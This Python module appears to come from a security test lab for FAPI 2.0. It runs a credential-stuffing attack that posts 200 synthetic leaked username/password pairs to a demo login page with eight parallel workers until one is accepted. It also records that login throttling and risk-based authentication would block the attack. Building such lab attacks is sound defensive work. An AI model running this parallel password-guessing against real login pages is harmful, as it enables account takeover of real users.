"""credential-stuffing: a leaked password list tried at the AS login page.

The CS attacker has 200 (username, password) pairs for alice and bob from other sites'
breaches; bob's real password is no. 120 (people reuse passwords). From 127.0.0.2 it
opens login pages of its own client's authorization requests and posts the pairs in
parallel. A password is confirmed when the AS moves on to the second factor, or signs
in outright. Nothing in FAPI 2.0 limits guessing (AM §6 leaves user authentication out;
RTS Art. 4 and NIST SP 800-63B §5.2.2 ask for throttling).

Bounded by count, never by time: at most the 200 pairs, WORKERS at a time, stopping at the
first confirmed one, so a loaded machine takes longer but reaches the same verdict.
"""

from __future__ import annotations

import threading
from concurrent.futures import ThreadPoolExecutor
from typing import Any

from attacker import login_support as ls
from attacker import token_support as ts
from attacker.attack_context import AttackContext
from attacker.attacks import Attack
from lab.domain.customers import DEMO_USERS

WORKERS = 8
LIST_SIZE = 200
BOB_POSITION = 120              # 1-based, as the catalog counts
_COMMON = ("123456", "password", "qwerty", "letmein", "dragon", "monkey", "sunshine",
           "iloveyou", "football", "welcome", "shadow", "master", "princess", "trustno1",
           "baseball", "superman", "starwars", "whatever", "freedom", "hello")


def leaked_pairs() -> list[tuple[str, str]]:
    """The breach list: alternating alice and bob, bob's real password at BOB_POSITION."""
    bob_password = next(u.password for u in DEMO_USERS if u.username == "bob")
    pairs: list[tuple[str, str]] = []
    n = 0
    while len(pairs) < LIST_SIZE:
        user = "alice" if len(pairs) % 2 == 0 else "bob"
        if len(pairs) == BOB_POSITION - 1:
            pairs.append(("bob", bob_password))
            continue
        guess = f"{_COMMON[n % len(_COMMON)]}{n // len(_COMMON) or ''}"
        pairs.append((user, guess))
        n += 1
    return pairs


def run(ctx: AttackContext) -> None:
    pairs = leaked_pairs()
    meta = ts.metadata(ctx)
    found: dict[str, Any] = {}
    stop = threading.Event()
    tried = 0
    lock = threading.Lock()
    queue = iter(enumerate(pairs, start=1))

    def worker() -> None:
        nonlocal tried
        http = ls.attacker_session(ctx)
        page = ls.own_login_page(ctx, http, meta=meta, quiet=True)
        form = ls.login_form(page)
        while not stop.is_set() and form is not None:
            with lock:
                item = next(queue, None)
            if item is None:
                return
            position, (username, password) = item
            action, fields = form
            answer = http.post(action, data=[*fields, ("username", username),
                                             ("password", password)],
                               allow_redirects=False, timeout=30)
            ctx.note_request(answer, actor="attacker")
            with lock:
                tried += 1
            reached = ls.signed_in(answer)
            if reached:
                with lock:
                    found.setdefault("hit", {"position": position, "username": username,
                                             "password": password, "next_step": reached})
                stop.set()
                return
            form = ls.login_form(answer) if answer.status_code == 401 else None

    ctx.step("attacker", f"opens {WORKERS} login pages of its own client and posts the "
             f"{len(pairs)} leaked pairs, {WORKERS} at a time")
    with ThreadPoolExecutor(WORKERS) as pool:
        for future in [pool.submit(worker) for _ in range(WORKERS)]:
            future.result()
    hit = found.get("hit")
    if hit is None:
        ctx.failed(f"no leaked password worked ({tried} tried)")
    ctx.step("attacker", f"pair no. {hit['position']} ({hit['username']}) is accepted: the AS "
             f"moves on to {hit['next_step']}", status=200)
    ctx.succeeded(f"confirmed {hit['username']}'s password after {tried} attempts without being "
                  "slowed down", hit)


ATTACK = Attack(
    id="credential-stuffing", attacker="CS", legs=("own",), victim="none",
    title="Leaked passwords at the login page",
    blocked_by=("login_throttling", "risk_based_auth"),
    premise="200 (username, password) pairs for alice and bob from other sites' breaches; bob "
            "reused his real password (no. 120).",
    goal="a password confirmed: the second-factor step reached, or signed in", run=run,
    fapi2_blocks=False,
    why_not="user authentication is outside FAPI 2.0's attacker model (AM §6); only "
            "throttling and risk-based authentication limit guessing",
    refs=("RTS Art. 4", "NIST SP 800-63B §5.2.2"),
)
